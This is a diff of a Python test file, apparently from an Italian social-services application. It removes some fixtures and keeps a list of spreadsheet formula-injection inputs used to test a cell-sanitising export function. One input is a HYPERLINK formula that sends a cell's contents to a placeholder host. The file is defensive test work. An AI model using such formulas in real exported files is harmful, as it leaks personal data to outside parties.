@@ -23,31 +23,11 @@ from cse.core.exports import safe_cell
 from cse.regionale.models import PrestazioneSiuss
 from cse.siuss.models import Flusso
 from interop.models import ChiamataInterop
-from tests.support.factories import CartellaFactory, OperatoreFactory
-from tests.support.places import home_comune, regione, resident
+from tests.support.factories import OperatoreFactory
+from tests.support.places import regione
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1;"Dettagli")'
 DANGEROUS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
-
-
-@pytest.fixture
-def comune(db):
-    return home_comune()
-
-
-@pytest.fixture
-def worker(comune):
-    return OperatoreFactory(ente=comune, ruolo="assistente_sociale")
-
-
-@pytest.fixture
-def person(comune):
-    return resident(comune)
-
-
-@pytest.fixture
-def case(person, worker):
-    return CartellaFactory(assistito=person, by=worker)
 
 
 @pytest.mark.parametrize("value", DANGEROUS)
